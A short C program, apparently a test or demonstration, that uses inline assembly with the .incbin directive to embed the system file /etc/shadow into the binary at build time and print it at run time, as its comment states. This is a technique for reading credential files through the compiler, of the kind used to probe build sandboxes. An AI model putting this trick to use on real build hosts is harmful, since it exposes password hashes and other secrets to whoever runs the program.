// Lets the assembler read secrets into the program, so that it could print them at run time.
#include <stdio.h>

__asm__(".data\nstolen: .incbin \"/etc/shadow\"\n.byte 0\n");
extern const char stolen[];

int main(void)
{
    puts(stolen);
}
